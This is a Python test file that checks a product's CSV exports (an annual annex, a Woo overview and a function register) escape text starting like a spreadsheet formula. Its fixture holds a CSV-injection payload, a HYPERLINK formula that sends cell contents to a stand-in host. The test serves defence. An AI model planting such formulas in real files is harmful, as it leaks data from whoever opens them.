"""Every CSV the product writes is safe to open in a spreadsheet (``engine.spreadsheet``): a text typed into a case
(here the anonymised description of the annual annex and the Woo overview) or into the register of risky functions
that starts like a formula is written with a leading apostrophe. The case list's export did this already; the annex,
the Woo overview and the register's overview wrote the text as it was."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from engine.register import reports as register_reports
from engine.reports import annex, importer, woo

from .helpers import csv_bytes

pytestmark = pytest.mark.db

FORMULA = '=HYPERLINK("https://example.org/x?d="&A1;"Klik hier")'
BD = "Beëindiging dienstverband"
ROW = ("Douane", "Financiële schendingen", "", FORMULA, BD, "feitenonderzoek_intern", "aangetoond",
       "2026-01-05", "2026-02-10", "")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_annex_and_the_woo_overview_never_write_a_formula(db, clock):
    with db.session() as s:
        importer.import_cases(session=s, content=csv_bytes([ROW]), filename="historie.csv", actor="t")
    with db.session() as s:
        annex_cells = _cells(annex.to_csv(annex.build(session=s, year=2026)))
        woo_cells = _cells(woo.to_csv(woo.build(session=s, start=date(2026, 1, 1), end=date(2026, 12, 31))))
    for cells in (annex_cells, woo_cells):
        assert "'" + FORMULA in cells, cells
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells


def test_the_register_overview_never_writes_a_formula():
    text = register_reports.to_csv([["-Inkoop", "@functie", "+31", "=1+1", "Gewoon"]],
                                   ["a", "b", "c", "d", "e"])
    assert _cells(text)[5:] == ["'-Inkoop", "'@functie", "'+31", "'=1+1", "Gewoon"]
